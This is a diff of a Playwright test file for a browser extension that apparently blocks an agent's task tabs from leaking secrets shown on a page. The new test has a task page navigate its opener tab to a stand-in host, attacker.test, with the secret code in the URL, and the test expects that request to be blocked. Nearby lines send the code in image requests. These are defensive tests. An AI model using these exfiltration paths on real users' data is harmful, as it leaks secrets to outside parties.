@@ -248,9 +248,8 @@ for (const variant of ['full', 'nohooks'] as const) {
 /**
  * The taint's rules are dynamic rules, which cannot name tabs: session allow rules keep them off every
  * request outside the guard's scope (src/background/dnr.ts, buildTaintRules). With guard scope
- * `task-tabs`, a tab the task did not start in sends what it likes, by a subresource or a top-level
- * navigation; the task's tab cannot send the secret it showed. No MAIN-world hooks, so the floor alone
- * decides both.
+ * `task-tabs`, a tab the task did not start in sends what it likes; the task's tab cannot send the secret
+ * it showed. No MAIN-world hooks, so the floor alone decides both.
  */
 test.describe('the taint with guard scope task-tabs, no MAIN-world hooks', () => {
   test('the task tab cannot carry the shown secret to attacker.test; a tab outside the task can', async () => {
@@ -274,13 +273,45 @@ test.describe('the taint with guard scope task-tabs, no MAIN-world hooks', () =>
       await otherTab.goto(`${server.origin('other.test')}/other/${id}`);
       await send(otherTab, `/${id}/other/${secret.code}.png`);
       await server.waitFor(`/${id}/other/`, ATTACKER, 2 * QUIET_MS);
-      // A top-level navigation of that tab too (an allow rule that names no resource type leaves main_frame out).
-      await otherTab.goto(`${server.origin(ATTACKER)}/${id}/other-page/${secret.code}`);
-      expect(server.hits(`/${id}/other-page/`, ATTACKER), 'the tab outside the task navigated to attacker.test').toHaveLength(1);
 
       await send(taskTab, `/${id}/task/${secret.code}.png`);
       await sleep(QUIET_MS);
       expect(server.hits(`/${id}/task/`, ATTACKER), 'the task tab reached attacker.test').toHaveLength(0);
+    } finally {
+      await browser.close();
+    }
+  });
+});
+
+/**
+ * A task page can navigate a tab outside the task when it holds a reference to it (its opener, here). The
+ * taint's rules hold for top-level navigations in every tab (the out-of-scope allows leave main_frame
+ * out), so that tab cannot carry the code the task's page showed; the same navigation without the code
+ * arrives (the navigation floor guards the task's tabs only).
+ */
+test.describe('a task page navigating its opener, guard scope task-tabs, no MAIN-world hooks', () => {
+  test('the opener, outside the task, cannot be made to carry the shown code; without the code it goes', async () => {
+    test.setTimeout(90_000);
+    const browser = await launch('nohooks');
+    try {
+      await browser.setOptions({ guardScope: 'task-tabs' });
+      const id = `opener${++caseNumber}`;
+      const secret = showSecret(id);
+      server.setPage(`/other/${id}`, `<!doctype html><title>other</title><p>The user's tab</p>`);
+      const outsideTab = await browser.context.newPage();
+      await outsideTab.goto(`${server.origin('other.test')}/other/${id}`);
+      const [taskTab] = await Promise.all([browser.context.waitForEvent('page'), outsideTab.evaluate((u) => void window.open(u), `${server.origin(HOME)}/show/${id}`)]);
+      await taskTab.waitForLoadState();
+      await taskTab.bringToFront();
+      await browser.setPolicy(READ_ONLY); // the task starts in the active tab; its opener is outside it
+      await taskTab.reload();
+      await taintRecorded(browser, secret);
+      const navigateOpener = (path: string) => taskTab.evaluate((u) => void ((window.opener as Window).location.href = u), `${server.origin(ATTACKER)}/${id}${path}`);
+      await navigateOpener('/plain');
+      await server.waitFor(`/${id}/plain`, ATTACKER, 2 * QUIET_MS);
+      await navigateOpener(`/code/${secret.code}`);
+      await sleep(QUIET_MS);
+      expect(server.hits(`/${id}/code/`, ATTACKER), 'the opener carried the shown code to attacker.test').toHaveLength(0);
     } finally {
       await browser.close();
     }
